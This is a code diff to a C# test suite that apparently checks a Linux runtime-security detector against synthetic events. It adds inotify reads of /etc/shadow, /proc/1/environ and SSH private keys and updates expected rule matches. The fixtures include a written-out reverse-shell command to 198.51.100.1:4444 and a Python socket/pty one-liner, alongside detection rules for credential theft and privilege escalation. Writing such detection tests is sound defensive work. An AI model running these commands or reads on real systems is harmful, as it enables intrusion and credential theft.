@@ -33,7 +33,7 @@ public sealed class HandWrittenComparisonTests
         void File(long pid, string operation, string syscall, string path, string flags = "0101", string? mode = null, string? dest = null, string name = "sh", long result = 3,
             string parent = "bash", string ancestors = "bash", string? raw = null) =>
             db.Add("process_file_events", ("operation", operation), ("syscall", syscall), ("pid", pid), ("path", path), ("path_raw", raw ?? path), ("flags", flags), ("mode", mode), ("dest_path", dest),
-                ("status", result >= 0 ? "succeeded" : "failed"), ("result", result), ("name", name), ("cmdline", name), ("parent_name", parent), ("ancestors", ancestors), ("uid", 0), ("auid", 4294967295), ("executable", "/bin/" + name));
+                ("status", result >= 0 || syscall == "inotify" ? "succeeded" : "failed"), ("result", result), ("name", name), ("cmdline", name), ("parent_name", parent), ("ancestors", ancestors), ("uid", 0), ("auid", 4294967295), ("executable", "/bin/" + name));
         void Socket(long pid, string action, string syscall, string name, string? ip, int port, int protocol = 6, int family = 2, string? cmdline = null) =>
             db.Add("socket_events", ("action", action), ("syscall", syscall), ("pid", pid), ("name", name), ("cmdline", cmdline ?? name), ("path", "/usr/bin/" + name), ("family", family), ("protocol", protocol),
                 ("local_address", family == 17 ? null : "172.17.0.2"), ("local_port", family == 17 ? null : 40000 + pid), ("remote_address", ip), ("remote_port", ip is null ? null : port),
@@ -130,6 +130,14 @@ public sealed class HandWrittenComparisonTests
         File(425, "open", "openat", "/home/app/.ssh/authorized_keys", flags: "0", name: "python3");
         File(530, "open", "openat", "/root/.ssh/id_rsa", flags: "0", name: "ssh");
         File(531, "open", "openat", "/srv/ssh/config", flags: "0", name: "cat");
+        // The default config's sensitive reads (docs/tracer.md §5.2): flags 00 and result -1 when the reader had
+        // closed the file, its descriptor's when found.
+        File(438, "open", "inotify", "/etc/shadow", flags: "00", name: "cat", result: -1);
+        File(439, "open", "inotify", "/proc/1/environ", flags: "00", name: "cat", result: -1);
+        File(440, "open", "inotify", "/root/.ssh/id_rsa", flags: "0100000", name: "python3", result: 4);
+        File(441, "open", "inotify", "/etc/shadow", flags: "00", name: "php-fpm", parent: "php-fpm", raw: "/srv/www/../../etc/shadow", result: -1);
+        File(546, "open", "inotify", "/etc/shadow", flags: "00", name: "passwd", result: -1);
+        File(547, "open", "inotify", "/root/.ssh/id_rsa", flags: "00", name: "ssh", result: -1);
         Exec(426, "bash", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", parent: "nginx", ancestors: "nginx containerd-shim");
         Exec(427, "python3", "python3 -c 'import socket,os,pty;s=socket.socket()'", ancestors: "sh php-fpm containerd-shim");
         Exec(532, "bash", "bash -i", ancestors: "sh sh sh nginx");
@@ -202,11 +210,11 @@ public sealed class HandWrittenComparisonTests
     [InlineData("delete_or_rename_shell_history", "Delete or rename shell history", "305", "616")]
     [InlineData("set_setuid_or_setgid_bit", "Set Setuid or Setgid bit", "306", "617")]
     [InlineData("create_symlink_over_sensitive_files", "Create Symlink Over Sensitive Files", "307", "618")]
-    [InlineData("read_sensitive_file_untrusted", "Read sensitive file untrusted", "308", "310")]
+    [InlineData("read_sensitive_file_untrusted", "Read sensitive file untrusted", "308,438", "310,546")]
     [InlineData("change_thread_namespace", "Change thread namespace", "401", "501,502")]
     [InlineData("clear_log_activities", "Clear Log Activities", "402", "503,504")]
     [InlineData("create_hardlink_over_sensitive_files", "Create Hardlink Over Sensitive Files", "403", "505")]
-    [InlineData("directory_traversal_monitored_file_read", "Directory traversal monitored file read", "404,405,406", "506,507")]
+    [InlineData("directory_traversal_monitored_file_read", "Directory traversal monitored file read", "404,405,406,441", "506,507")]
     [InlineData("disallowed_http_proxy_env", "Program run with disallowed http proxy env", "407,408,434", "508,509")]
     [InlineData("disallowed_ssh_connection_non_standard_port", "Disallowed SSH Connection Non Standard Port", "409", "510,511,512")]
     [InlineData("find_aws_credentials", "Find AWS Credentials", "410,411", "513,514")]
@@ -218,8 +226,8 @@ public sealed class HandWrittenComparisonTests
     [InlineData("polkit_local_privilege_escalation", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "419,436", "525,526")]
     [InlineData("ptrace_anti_debug", "PTRACE anti-debug attempt", "420", "421,527")]
     [InlineData("ptrace_attached_to_process", "PTRACE attached to process", "421,422", "420,527")]
-    [InlineData("read_environment_variable_from_proc_files", "Read environment variable from /proc files", "423", "528,529")]
-    [InlineData("read_ssh_information", "Read ssh information", "424,425", "530,531")]
+    [InlineData("read_environment_variable_from_proc_files", "Read environment variable from /proc files", "423,439", "528,529")]
+    [InlineData("read_ssh_information", "Read ssh information", "424,425,440", "530,531,547")]
     [InlineData("reverse_shell_from_web_server", "Reverse Shell from Web Server", "426,427", "532,533,534")]
     [InlineData("schedule_cron_jobs", "Schedule Cron Jobs", "428,429", "535,536")]
     [InlineData("sudo_potential_privilege_escalation", "Sudo Potential Privilege Escalation", "430,437", "537,538,539")]
